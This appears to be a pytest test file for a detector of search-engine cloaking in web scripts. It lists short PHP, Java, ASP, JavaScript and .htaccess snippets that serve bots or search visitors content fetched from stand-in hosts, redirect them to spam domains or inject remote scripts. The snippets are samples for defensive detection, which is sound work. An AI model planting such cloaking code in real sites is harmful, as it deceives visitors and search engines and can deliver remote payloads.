# ruff: noqa: E501 — one page, one line.
"""Pages that bring search engines, or who comes from one, something else."""

import pytest

from hemostat.detect.content.webscripts.cloaking import cloaks, cloaks_by_rewriting


@pytest.mark.parametrize(
    "page",
    [
        "if (preg_match('/baiduspider|sogou/', $_SERVER['HTTP_USER_AGENT'])) { echo @file_get_contents('http://192.0.2.1/j/?u=' . $u); exit; }",
        "$r = $_SERVER['HTTP_REFERER']; if (stripos($r, 'google.') !== false) { header('Location: https://pharm.example/'); exit; }",
        "if (preg_match('/aol|bing/', $_SERVER['HTTP_REFERER'])) { echo '<script src=//cdn.example/j.js></script>'; }",
        "function isBot() { return preg_match('~google|bing~i', getenv('HTTP_USER_AGENT')); } if (isBot()) { print(file_get_contents(base64_decode('aHR0cDov'))); }",
        "$s = array('Baiduspider', 'Sogou'); foreach ($s as $b) { if (stristr($_SERVER['HTTP_USER_AGENT'], $b)) { echo file_get_contents('http://zz.example/i.php'); die; } }",
        "$bot = false; foreach (['yandex'] as $b) if (stripos($_SERVER['HTTP_USER_AGENT'], $b) !== false) $bot = true; if ($bot) { readfile('https://s.example/l.html'); }",
        "$ua = $_SERVER['HTTP_USER_AGENT']; $url = 'http://a.example/i.php?web=' . $_SERVER['HTTP_HOST'] . '&b=' . (preg_match('/google|bing/i', $ua) ? 1 : 0); echo file_get_contents($url);",
        'String ua = request.getHeader("User-Agent"); if (ua.contains("baiduspider")) { URL u = new URL("http://seo.example/x"); out.print(read(u.openStream())); }',
        'ua=request.servervariables("HTTP_USER_AGENT")\nif instr(ua,"baidu")>0 then\nset x=server.createobject("MSXML2.XMLHTTP")\nx.open "GET","http://seo.example/",false\nresponse.write x.responsetext\nend if',
        "var s = document.referrer; if (s.indexOf('baidu') > 0) { document.write('<script src=\"https://tz.example/tz.js\"><\\/script>') }",
        "if (/baidu|sm\\.cn/.test(document.referrer)) { top.location.href = String.fromCharCode(104, 116); }",
    ],
)
def test_what_an_engine_gets_from_elsewhere_is_seen(page: str) -> None:
    assert list(cloaks(page))


@pytest.mark.parametrize(
    "page",
    [
        "foreach (['googlebot'] as $b) { if (stripos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { define('IS_BOT', true); } } include 'page.php';",
        "if (preg_match('/Baiduspider/', $_SERVER['HTTP_USER_AGENT'])) { file_put_contents('/var/log/s.log', $u); } echo file_get_contents('https://weather.example/');",
        "$s = 'Googlebot|Sogou'; if (!preg_match(\"/$s/\", $_SERVER['HTTP_USER_AGENT'])) { header('Location: https://www.example.org/login'); }",
        "if (strpos($_SERVER['HTTP_USER_AGENT'], 'Chrome')) { header('Location: https://app.example.org/'); }",
        "var r = document.referrer; if (r.indexOf('baidu') > -1) { _hmt.push(['x']); var h = '<script src=\"https://hm.baidu.com/hm.js\">'; }",
        "if (preg_match('/googlebot/', $_SERVER['HTTP_USER_AGENT'])) { echo $client->get(PRERENDER . $u)->getBody(); }",
        "/* googlebot */ if ($_SERVER['HTTP_USER_AGENT'] == '') { header('Location: https://x.example/'); }",
    ],
)
def test_statistics_and_prerendering_are_not(page: str) -> None:
    assert not list(cloaks(page))


@pytest.mark.parametrize(
    ("settings", "is_seen"),
    [
        (
            "RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule ^ https://p.example/ [R,L]\n",
            True,
        ),
        (
            "RewriteCond %{HTTP_USER_AGENT} Baiduspider\nRewriteRule .* http://s.example/$1 [P]\n",
            True,
        ),
        (
            "RewriteCond %{HTTP_REFERER} !google [NC]\nRewriteRule ^ https://p.example/ [R,L]\n",
            False,
        ),
        ("RewriteCond %{HTTP_USER_AGENT} Baiduspider\nRewriteRule .* - [F]\n", False),
        (
            "RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ http://service.prerender.io/https://a.example/$1 [P]\n",
            False,
        ),
        (
            "RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ http://127.0.0.1:3000/$1 [P]\n",
            False,
        ),
    ],
)
def test_rewriting_to_another_host(settings: str, is_seen: bool) -> None:
    assert bool(list(cloaks_by_rewriting(settings))) is is_seen
